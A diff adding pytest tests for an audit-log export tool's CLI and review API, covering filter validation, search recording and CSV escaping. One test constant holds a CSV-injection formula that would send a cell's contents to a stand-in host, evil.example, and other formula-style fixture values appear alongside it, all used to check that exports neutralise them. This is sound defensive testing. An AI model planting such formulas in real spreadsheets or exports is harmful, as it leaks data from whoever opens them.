@@ -147,15 +147,147 @@ def test_cli_export_writes_the_file_with_a_progress_bar(rsettings, rstore, tmp_p
     assert read.seq > documents[-1]["seq"]
 
 
+def _cli_env(rsettings) -> dict[str, str]:
+    return {"GOVGATE_VAR_DIR": str(rsettings.var_dir), "GOVGATE_DATABASE_URL": rsettings.effective_database_url}
+
+
 @pytest.mark.parametrize("args,message", [
     (["--format", "csv"], "--since"),
-    (["--since", "last week", "--format", "csv"], "not an ISO-8601 date"),
-    (["--since", "0001-01-01T00:00:00+05:00", "--format", "csv"], "within years 1 to 9999"),
-    (["--since", "2026-05-02", "--until", "2026-05-01", "--format", "csv"], "later than --since"),
     (["--since", "2026-05-01", "--format", "xml"], "xml"),
-    (["--since", "2026-05-01", "--format", "csv", "--kind", "nope"], "unknown kind"),
 ])
 def test_cli_export_refuses_bad_arguments(rsettings, args, message):
-    env = {"GOVGATE_VAR_DIR": str(rsettings.var_dir), "GOVGATE_DATABASE_URL": rsettings.effective_database_url}
-    result = CliRunner().invoke(main, ["audit", "export", *args], env=env)
+    result = CliRunner().invoke(main, ["audit", "export", *args], env=_cli_env(rsettings))
     assert result.exit_code == 2 and message in result.output
+
+
+#: Bad filter values: (option, value, the HTTP parameter). The CLI and the review API read them with the
+#: same code (audit/filters.py), so they refuse them alike, with the same message.
+BAD_FILTERS = [
+    ("--since", "last week", "since"),
+    ("--since", "0001-01-01T00:00:00+05:00", "since"),
+    ("--until", "2026-04-30", "until"),  # not after --since
+    ("--kind", "nope", "kind"),
+    ("--kind", "request,", "kind"),
+    ("--decision", "maybe", "decision"),
+    ("--decision", "DENY", "decision"),
+    ("--reason", "r" * 256, "reason"),
+    ("--request-id", "x" * 256, "request_id"),
+    ("--read-of", "x" * 256, "read_of"),
+    ("--q", "", "q"),
+    ("--q", "x" * 1001, "q"),
+    ("--team", "t" * 256, "team"),
+]
+
+
+@pytest.mark.parametrize("option,value,param", BAD_FILTERS, ids=[f"{o}:{v[:12]}" for o, v, _ in BAD_FILTERS])
+async def test_cli_export_refuses_bad_filters_as_the_api_does(rclient, rsettings, rstore, rkeys, option, value,
+                                                              param):
+    before = len(all_entries(rstore))
+    result = CliRunner().invoke(main, ["audit", "export", "--since", "2026-05-01", "--format", "csv",
+                                       f"{option}={value}"], env=_cli_env(rsettings))
+    over_http = await rclient.get("/v1/audit/export", headers=bearer(rkeys.reviewer),
+                                  params={"since": "2026-05-01", param: value})
+
+    assert over_http.status_code == 400 and over_http.json()["error"]["param"] == param
+    message = over_http.json()["error"]["message"]
+    assert result.exit_code == 2
+    assert result.stderr.splitlines() == [f"Error: {option}: {message}"]  # one line, no usage text
+    assert result.stdout == "" and "x" * 100 not in result.stderr  # values are not echoed at length
+    assert len(all_entries(rstore)) == before  # nothing recorded (no payload_read for a refused --q)
+
+
+#: Filters (as the review API names them) the CLI must answer exactly as GET /v1/audit/export does.
+CLI_FILTERS = [
+    {"decision": "deny"},
+    {"decision": "unavailable", "team": "research"},
+    {"decision": "allow", "model": "idle-tiny"},
+    {"reason": "rate_limited"},
+    {"reason": "outside_hours", "team": "research"},
+    {"q": "needle-1"},
+    {"q": "50%_OFF", "kind": "request,completion"},
+]
+
+
+@pytest.mark.parametrize("filters", CLI_FILTERS, ids=lambda f: ",".join(f"{k}={v}" for k, v in f.items()))
+async def test_cli_export_filters_answer_as_the_api_does(rclient, rsettings, rstore, rkeys, filters):
+    since = all_entries(rstore)[0].created_at.date().isoformat()
+    over_http = await _export(rclient, rkeys.auditor, format="jsonl", order="oldest", since=since, **filters)
+    expected = [json.loads(line)["seq"] for line in over_http.text.splitlines()]
+    options = [f"--{name.replace('_', '-')}={value}" for name, value in filters.items()]
+    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl", *options],
+                                env=_cli_env(rsettings), catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    assert expected and [json.loads(line)["seq"] for line in result.stdout.splitlines()] == expected
+
+
+async def test_cli_export_of_one_request_and_a_text_search_recorded(rclient, rsettings, rstore, rkeys):
+    target = next(e for e in all_entries(rstore) if e.kind == "completion")
+    since = all_entries(rstore)[0].created_at.date().isoformat()
+    before = len(all_entries(rstore))
+    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl",
+                                       "--request-id", target.request_id], env=_cli_env(rsettings))
+    assert result.exit_code == 0, result.output
+    assert [json.loads(line)["kind"] for line in result.stdout.splitlines()] == ["request", "completion"]
+    assert len(all_entries(rstore)) == before  # no text shown or searched: no read recorded
+
+    # A text search reads texts even when it does not show them: recorded first, without the term.
+    searched = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "csv",
+                                         "--q", "needle-2", "--decision", "allow"], env=_cli_env(rsettings))
+    assert searched.exit_code == 0, searched.output
+    read = all_entries(rstore)[-1]
+    assert read.kind == "payload_read" and read.principal.startswith("cli:")
+    assert read.body["text_search"] is True and read.body["filter"]["decision"] == "allow"
+    assert "needle-2" not in json.dumps(read.body)
+    rows = list(csv.DictReader(io.StringIO(searched.stdout, newline="")))
+    assert rows and all(row["payload"] == "" for row in rows)  # found by their texts, shown without them
+
+
+#: Values a spreadsheet would run as formulas (OWASP "CSV injection"), and one that starts with the quote.
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
+
+
+def _unquoted(cell: str) -> str:
+    """A CSV cell's value: README says to drop the one leading quote a cell may have been given."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+async def test_csv_cells_are_never_formulas_and_jsonl_stays_exact(rclient, rsettings, rstore, rkeys):
+    model = "-1+2"
+    prompt = {"messages": [{"role": "user", "content": HYPERLINK}]}
+    rstore.append("request", "+inj-request", principal=HYPERLINK, team="@SUM(A1:A9)", model=model,
+                  policy_revision="\trev", body={"endpoint": "chat.completions", "key_id": "k",
+                                                 "decision": {"allow": False, "reasons": []}}, payload=prompt)
+    rstore.append("rejected", "\rinj-rejected", principal="'quoted", team="=1+1", model=model,
+                  policy_revision="-rev", body={"endpoint": "completions", "status": 422})
+    stored = [e for e in all_entries(rstore) if e.model == model]
+    assert len(stored) == 2
+
+    lines = (await _export(rclient, rkeys.auditor, model=model, format="jsonl", order="oldest",
+                           include_text="true")).text.splitlines()
+    documents = [json.loads(line) for line in lines]
+    assert [(d["principal"], d["team"], d["request_id"], d["policy_revision"]) for d in documents] == [
+        (HYPERLINK, "@SUM(A1:A9)", "+inj-request", "\trev"), ("'quoted", "=1+1", "\rinj-rejected", "-rev")]
+    assert documents[0]["payload"]["messages"] == prompt["messages"]  # JSONL keeps every value exactly
+
+    response = await _export(rclient, rkeys.auditor, model=model, format="csv", order="oldest", include_text="true")
+    cli = CliRunner().invoke(main, ["audit", "export", "--since", stored[0].created_at.date().isoformat(),
+                                    f"--model={model}", "--format", "csv", "--include-text"],
+                             env=_cli_env(rsettings), catch_exceptions=False)
+    assert cli.exit_code == 0, cli.output
+    for text in (response.text, cli.stdout):
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert rows[0] == list(CSV_COLUMNS) and len(rows) == 3
+        for row in rows[1:]:
+            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
+        first, second = (dict(zip(CSV_COLUMNS, row)) for row in rows[1:])
+        assert (first["principal"], first["team"], first["model"], first["request_id"],
+                first["policy_revision"]) == ("'" + HYPERLINK, "'@SUM(A1:A9)", "'-1+2", "'+inj-request", "'\trev")
+        assert (second["principal"], second["team"], second["request_id"]) == ("''quoted", "'=1+1",
+                                                                                "'\rinj-rejected")
+        # The prompt is inside the payload's JSON text, which starts with "{": kept as is.
+        assert json.loads(first["payload"])["messages"] == prompt["messages"]
+        # Dropping the one leading quote gives back every value of the JSONL export.
+        for document, row in zip(documents, rows[1:]):
+            cells = {name: _unquoted(cell) for name, cell in zip(CSV_COLUMNS, row)}
+            for name in ("seq", "request_id", "kind", "principal", "team", "model", "policy_revision", "hash"):
+                assert cells[name] == str(document[name]), name
